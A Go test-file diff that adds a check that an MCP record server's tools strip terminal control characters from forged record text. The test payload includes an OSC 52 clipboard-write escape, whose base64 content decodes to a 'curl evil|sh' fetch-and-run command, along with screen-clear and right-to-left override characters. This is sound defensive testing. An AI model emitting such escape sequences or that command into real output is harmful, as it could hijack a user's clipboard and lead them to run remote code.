@@ -10,6 +10,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"reflect"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -1747,5 +1748,60 @@ func TestStoredSchemaFailureIsNotTheArguments(t *testing.T) {
 	_, te := callError(t, cs, "assess", map[string]any{"task": "U", "subject": "s", "question": "q?", "materiality": "huge", "reversibility": "reversible"})
 	if !strings.HasPrefix(te.Message, "arguments of assess: /materiality: ") {
 		t.Errorf("a body the call built that fails its schema: %s %q", te.Code, te.Message)
+	}
+}
+
+// Texts a fetched record carries reach an MCP host's person as they reach
+// a terminal: through record.PrintableText. A host that runs in a terminal
+// (an agent's command line) prints a result's text there, and the log,
+// search and handover tools and the task reports put a forged record's
+// subject in it as stored: an OSC 52 sequence there writes the person's
+// clipboard, a right-to-left override reverses what they read. show and
+// status filtered theirs; the other tools did not.
+func TestRecordTextsReachNoTerminal(t *testing.T) {
+	dir := newRepo(t)
+	cs := connect(t, dir, nil)
+	callTool(t, cs, "assess", map[string]any{"task": "T", "subject": "s", "question": "q?", "materiality": "minor", "reversibility": "reversible",
+		"evidence": []any{map[string]any{"kind": "note", "ref": "n", "summary": "e"}}})
+	const hostile = `\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u202e\u009b31m`
+	forgeRecord(t, dir, "T", func(s string) string {
+		for _, f := range []string{"subject", "question", "summary"} {
+			s = regexp.MustCompile(`("`+f+`": "[^"]*)"`).ReplaceAllString(s, "${1}"+hostile+`"`)
+		}
+		return s
+	})
+	raw := func(s string) bool {
+		return strings.ContainsFunc(s, func(r rune) bool { return r == 0x1b || r == 0x07 || r == 0x9b || r == 0x202e })
+	}
+	ctx := context.Background()
+	calls := []struct {
+		tool string
+		args map[string]any
+	}{
+		{"status", map[string]any{"task": "T"}}, {"status", map[string]any{}}, {"log", map[string]any{"task": "T"}},
+		{"log", map[string]any{}}, {"search", map[string]any{"text": "s"}}, {"handover", map[string]any{}},
+		{"tasks", map[string]any{}}, {"verify", map[string]any{"tasks": []any{"T"}}}, {"plan", map[string]any{"task": "T"}},
+	}
+	for _, c := range calls {
+		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: c.tool, Arguments: c.args})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if text := res.Content[0].(*mcp.TextContent).Text; raw(text) {
+			t.Errorf("%s %v: the result's text holds the record's control characters as stored: %q", c.tool, c.args, text)
+		}
+	}
+	list, err := cs.ListResources(ctx, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range list.Resources {
+		if raw(r.Description) || raw(r.Title) {
+			t.Errorf("resources/list: %q", r.Description)
+		}
+	}
+	res, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "reason://task/T"})
+	if err != nil || raw(res.Contents[0].Text) {
+		t.Errorf("resources/read: %v %q", err, res.Contents[0].Text)
 	}
 }
